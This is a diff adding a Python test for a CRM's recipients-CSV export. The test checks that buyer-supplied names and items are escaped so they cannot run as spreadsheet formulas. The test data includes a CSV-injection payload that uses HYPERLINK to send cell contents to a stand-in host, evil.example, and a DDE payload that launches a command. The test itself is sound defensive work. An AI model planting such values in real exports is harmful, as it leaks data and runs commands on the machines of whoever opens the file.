@@ -417,3 +417,28 @@ async def test_segment_csv_greets_customers_without_a_usable_name_neutrally(db, 
             merged = seg.templates[lang].replace("{first_name}", rows[cid]["first_name"]).replace(
                 "{last_item}", rows[cid]["last_item"])
             assert merged.splitlines()[0] == greeting, (lang, merged)
+
+
+async def test_segment_csv_never_lets_a_buyers_text_run_as_a_formula(db, workspace_id: int) -> None:
+    """Names and items are the buyers' text: in the recipients CSV a seller opens in Excel they stay text."""
+    from zoneinfo import ZoneInfo
+
+    from crm.analytics.metrics import customer_scores
+
+    name, item = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "-2+3+cmd|' /C calc'!A0"
+    ids = [await add_customer(db, workspace_id, name=name, country="SG", orders=1, consent=True, item=item,
+                              points=-40),
+           await add_customer(db, workspace_id, name="@SUM(1+1)", country="SG", orders=1, consent=True)]
+    async with db.sessions() as s:
+        scores = await customer_scores(s, workspace_id, AS_OF, ZoneInfo("Asia/Singapore"))
+    segment = str(scores.segment[scores.index()[ids[0]]])
+    seg = await draft_for_segment(db, workspace_id, segment=segment, intent="winback", settings=SETTINGS,
+                                  as_of=AS_OF, language="en")
+    rows = {int(r["customer_id"]): r for r in csv.DictReader(io.StringIO(seg.recipients_csv.decode()))}
+    assert rows[ids[0]]["name"] == "'" + name and rows[ids[0]]["last_item"] == "'" + item
+    assert rows[ids[1]]["name"] == "'@SUM(1+1)"
+    for row in rows.values():
+        assert not any(v[:1] in "=+-@\t\r" for v in row.values() if v != row["points"]), row
+    # Numbers are still numbers (bare, not quoted text): the id, and the negative points balance.
+    line = next(x for x in seg.recipients_csv.decode().split("\r\n") if x.startswith(f"{ids[0]},"))
+    assert line.startswith(f'{ids[0]},"\'=HYPERLINK(') and line.endswith(",-40"), line
